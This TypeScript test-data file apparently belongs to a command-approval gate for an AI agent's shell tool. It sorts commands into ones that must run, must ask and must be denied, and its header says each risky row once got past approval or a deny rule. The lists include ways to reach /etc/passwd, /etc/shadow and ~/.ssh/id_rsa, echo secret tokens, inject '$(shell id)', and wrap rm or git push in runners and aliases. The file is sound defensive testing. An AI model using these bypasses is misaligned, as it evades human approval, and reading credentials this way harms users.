// Ways around the gate that were found by trying: each row once ran without approval, or got past a deny rule. Next to
// them are similar commands that must not need approval. They are text to be judged; none of them is ever run.

import type { CommandRow } from "./verdicts-data.ts";
import type { GateSetup } from "./gate-setup.ts";

const files = ["/repo/a.txt", "/repo/kit/a.txt", "/repo/src/b.ts", "/repo/d1/f", "/repo/d2/f", "/repo/.env"];
const LINKS: GateSetup = {
  links: {
    "/repo/tree/a.txt": "/home/me/target",
    "/repo/deep/er/link": "/repo/home/me/key",
    "/repo/d1/out": "/etc/passwd",
    "/repo/😀": "/etc/passwd",
    "/repo/İnfo": "/etc/passwd",
  },
  files,
};
const EDITS: GateSetup = { ...LINKS, mode: "acceptEdits" };
const named = (...names: readonly string[]) => names.map((name) => `Bash(${name}:*)`);
const RULES: GateSetup = {
  ...LINKS,
  allow: named("cat", "cp", "find", "grep", "ln", "make", "npm test", "printf", "sed", "tar"),
};
const TOOLS: GateSetup = { ...LINKS, allow: named("awk", "curl", "docker", "go", "make", "pytest") };
const DENIED: GateSetup = {
  allow: ["Bash"],
  deny: ["Bash(rm:*)", "Bash(git push:*)", "Read(~/.ssh/**)", "Read(.env)"],
  files,
};

export const MUST_RUN: readonly CommandRow[] = [
  [
    "printing what is no secret",
    {},
    [
      "echo $PATH",
      "echo ${HOME}/bin",
      'echo "$USER: $(pwd)"',
      'echo "`date +%F`"',
      "printf '%s\\n' \"$(git rev-parse HEAD)\"",
      'basename "$(pwd)"',
      "echo $((2 * (3 + 4)))",
      "echo $((7 - 9))",
      "head -n $((2 * 5)) a.txt",
    ],
  ],
  ["a folder up, inside", { cwd: "/repo/src" }, ["cd ..", "cd .. && ls", "cd .. && cat a.txt", "cd ../kit && ls"]],
  [
    "read-only programs behind wrappers",
    {},
    ["timeout 5 ls", "nice -n 5 cat a.txt", "timeout -s KILL 5 git log", "command cat a.txt"],
  ],
  [
    "filters between find and xargs",
    { files, allow: named("rm") },
    ["find . -name '*.o' | sort | xargs rm", "find . | grep -v keep | head -n 5 | xargs rm"],
  ],
  [
    "formats and filters",
    {},
    [
      "printf '%s\\n' a",
      "printf '%-10s %5d%%\\n' a 5",
      "printf '%5.2f %x\\n' 1 2",
      "printf '%(%Y-%m-%d)T\\n' 1",
      "printf '%*d' 5 1",
      "jq .env package.json",
      "jq -r '.a.ENV' package.json",
    ],
  ],
  [
    "variables",
    { allow: named("npm test", "cargo test", "make test") },
    [
      "CI=1 npm test",
      "NODE_ENV=test npm test -- -t x",
      "DEBUG=app:*,-app:noise npm test",
      "RUST_LOG=info,a::b=debug cargo test",
      "LC_ALL=en_US.UTF-8 make test",
      "TZ=Europe/Berlin npm test",
    ],
  ],
  [
    "links that lead nowhere else",
    EDITS,
    ["cp a.txt src", "cp a.txt src/c.txt && cat src/c.txt", "cp -r kit out", "mv a.txt src && ls src", "cat src/?.ts"],
  ],
  [
    "rules",
    RULES,
    [
      "diff a.txt src/b.ts",
      "diff kit src",
      "find src -name '*.ts' | xargs grep x",
      "find . -type f | xargs grep x",
      "sed -i.bak s/a/b/ a.txt",
      "tar -cf out/x.tar src",
      "npm test -s",
      "ln -s src link && ls",
    ],
  ],
  [
    "git",
    { allow: ["Bash(git:*)"] },
    [
      "git config user.name 'A B'",
      "git config --get core.pager",
      "git config gc.auto 0",
      "git diff --no-index /dev/null a.txt",
      "git diff --color-moved main..HEAD -- src",
      "git hash-object a.txt",
    ],
  ],
  [
    "text tools, builders and services",
    TOOLS,
    [
      "awk -F '/' '/api/ { print $1 }' a.txt",
      "awk -v x=/api '$0 ~ x' src/*.ts",
      "make test VERBOSE=1",
      "make X='a b'",
      "curl 'http://[::1]:3000/x'",
      "curl 'https://x/y?z=[1-3]'",
      "docker volume create x",
      "go -C src test ./...",
    ],
  ],
  [
    "next to deny rules",
    DENIED,
    [
      "uv run pytest",
      "git -c user.name=x commit -m y",
      "git bisect start",
      "cd src && cat b.ts",
      "poetry run pytest -x",
    ],
  ],
];

export const MUST_ASK: readonly CommandRow[] = [
  [
    "printing what may be a secret, or names outside",
    { links: { "/repo/ln": "/etc" }, files },
    [
      "echo $AWS_SECRET_ACCESS_KEY",
      'echo "$PATH $GITHUB_TOKEN"',
      "echo ${PATH:-$TOKEN}",
      "echo ${!HOME*}",
      "echo /etc/*$PATH",
      "echo ~/*${PATH}",
      "echo $(printf '/etc/*')",
      'echo "$(cat /etc/passwd)"',
      'echo "$(cat ~/.ssh/id_rsa)"',
      'echo "$(rm a.txt)"',
      'echo "$(env)"',
      'printf "$(cat a.txt)"',
      "printf '%d' \"$(cat a.txt)\"",
      'cat "$(echo /etc/passwd)"',
      'x="$(cat a.txt)"; ls',
      'ls > "$(echo x)"',
      "echo $((x[$(rm a)]))",
      "echo $((PATH))",
      "head $((0 - 1)) /etc/passwd",
    ],
  ],
  [
    "a folder up, outside",
    { cwd: "/repo/src" },
    [
      "cd ../..",
      "cd ..; cd ..",
      "while true; do cd ..; done",
      "cd .. && cat ../x",
      "(cd ..; cd ..; ls)",
      "cd ..; eval 'cd ..'",
    ],
  ],
  [
    "wrappers that do more than they wrap",
    { allow: named("npm test") },
    ["command time -o a.txt npm test", "\\time -o a.txt ls", "timeout 5 cat /etc/passwd", "nohup ls", "env ls"],
  ],
  [
    "a filter that reads a file, and xargs after it",
    { ...LINKS, allow: named("rm", "cat") },
    [
      "find . | sort list.txt | xargs rm",
      "find . | grep . list.txt | xargs rm",
      "find . | head -n 5 list.txt | xargs rm",
      "find . | grep -f list.txt | xargs rm",
      "find . | sort < list.txt | xargs rm",
      "find . | grep -h '' list.txt | xargs cat",
      'echo "/etc/x $(find . -type f -print0)" | xargs -0 rm',
    ],
  ],
  [
    "printf assigns to PATH",
    {},
    ["printf %ln PATH; ls", "printf '%hhn' PATH", "printf '%5lln' x", "printf '%zn' PATH", "printf '%-*jn' 1 PATH"],
  ],
  ["printf under a rule", RULES, ["printf %ln PATH", "printf 'a%Ln' PATH"]],
  [
    "jq shows the environment",
    {},
    ["jq -n '$ ENV'", "jq -n '$#x\nENV'", "jq -n '$\tENV.HOME'", "jq -n '\"a\"|modulemeta'"],
  ],
  ["the path of home as a script", {}, ["sed ~/p a.txt", "sed -n $HOME/p a.txt", 'sed -e "$HOME/p" a.txt']],
  [
    "variables with more than a name",
    RULES,
    [
      "CI='$(shell id)' make",
      "PORT='`id`' make",
      "DEBUG='a;b' make",
      "LANGUAGE=../../repo/x make",
      "LC_ALL=/repo/x make",
      "TZ=:/etc/shadow make",
      "TZ=../../x make",
    ],
  ],
  ["letters that some shells count as several", LINKS, ["cat ?", "cat ????", "cat [!a]", "cat İ*", "cat ?nfo"]],
  [
    "links where a copy goes",
    EDITS,
    ["cp a.txt tree", "cp a.txt tree/", "cp kit/* tree", "cp -r kit/. tree", "cp -a kit/. tree"],
  ],
  [
    "links where a copy goes, under a rule",
    RULES,
    ["cp -t tree a.txt", "cp -ttree a.txt", "cp --target-dir=tree a.txt", "cp --recursiv kit/. tree"],
  ],
  [
    "links that are copied along",
    EDITS,
    [
      "mv deep/er/link l && cat l",
      "mv deep/er/link l && echo x > l",
      "cp -P deep/er/link l && cat l",
      "cp -a deep/er/link l; cat l",
      "mv deep/er w && echo x > w/link",
      "cp -r deep/er w && cat w/link",
      "mv deep/er/* . && cat link",
    ],
  ],
  [
    "links that are made",
    { ...RULES, cwd: "/repo/src" },
    ["ln -s ../home/me/key ../l && cat ../l", "ln -s ../../x ../deep/l; cat ../deep/l"],
  ],
  ["links that diff opens", LINKS, ["diff d1 d2", "diff -q d1 src", "diff d1 a.txt", "diff -u -- d1 d2"]],
  [
    "links that xargs passes on",
    RULES,
    [
      "find . | xargs grep root",
      "find d1 -name out | xargs cat",
      "git ls-files | xargs cat",
      "find . -type f -o -name x | xargs cat",
    ],
  ],
  [
    "options in another form",
    RULES,
    [
      "npm test -script-shell=./x",
      "npm test -script-shell ./x",
      "npm test -script-sh=./x",
      "sed -i'/home/me/*' s/a/b/ a.txt",
      "sed --in-place='/home/me/*' s/a/b/ a.txt",
      "tar -cfhost:x a.txt",
      "tar --file=host:x -c a.txt",
      "tar -cb20fhost:x a.txt",
    ],
  ],
  [
    "git",
    { allow: ["Bash(git:*)"] },
    [
      "git config core.hooksPath -hooks",
      "git config core.pager --list",
      "git config alias.x --get",
      "git config set core.pager -x",
      "git config gc.recentObjectsHook x",
      "git diff --no-index a.txt /etc/passwd",
      "git diff --color-moved /etc/passwd /etc/group",
      "git grep --no-index root /etc",
      "git hash-object -w /etc/passwd",
      "git blame --contents /etc/passwd a.txt",
    ],
  ],
  [
    "text tools, builders and services",
    TOOLS,
    [
      "awk '{print}' /etc/passwd",
      "awk -F : '/root/' d1/out",
      `awk 'BEGIN { ARGV[1] = "/etc/passwd"; ARGC = 2 } 1'`,
      "make 'x!=id'",
      "make test 'x != id'",
      "make 'a/b:=$(shell id)'",
      "make '$(shell id):=x'",
      "curl '{file}:///etc/passwd'",
      "curl 'f[i-i]le:///etc/passwd'",
      "curl --proto-default file /etc/passwd",
      "curl --url-query @/etc/passwd http://x",
      "docker volume create -o device=/ x",
      "go -C /x test",
      "pytest @args",
    ],
  ],
  [
    "cd through a link and back",
    LINKS,
    ["cd d1/out/../etc && cat passwd", "cd src/../kit && ls", "cd ./src/.. && cat a.txt"],
  ],
  ["an unknown folder", DENIED, ["x=~/.ssh; cd $x; cat id_rsa", 'cd "$(echo x)" && cat y', "HOME=/x; cat ~/y"]],
];

export const MUST_DENY: readonly CommandRow[] = [
  [
    "what runners start",
    DENIED,
    [
      "uv run rm a",
      "uv run --with x rm a",
      "poetry run rm a",
      "pnpm exec rm a",
      "npm exec -- rm a",
      "npm exec -c 'rm a'",
      "op run -- rm a",
      "nix-shell --run 'rm a'",
      "xvfb-run rm a",
      "direnv exec . rm a",
      "aws-vault exec x -- rm a",
      "hyperfine 'rm a'",
      "git bisect run rm a",
      "git submodule foreach 'rm a'",
      "git submodule foreach git push",
      "git rebase -x 'git push' main",
      "git rebase --exec='git push' main",
      "git -c alias.x=push x",
      "git -c 'alias.x=!rm a' x",
      "/usr/lib/git-core/git-push",
    ],
  ],
  [
    "where cd leads",
    DENIED,
    [
      "cd; cat .ssh/id_rsa",
      "cd -- ; cat .ssh/id_rsa",
      "cd -P && cat .ssh/id_rsa",
      'cd "$HOME/.ssh" && cat id_rsa',
      'cat "$HOME/.ssh/id_rsa"',
    ],
  ],
];
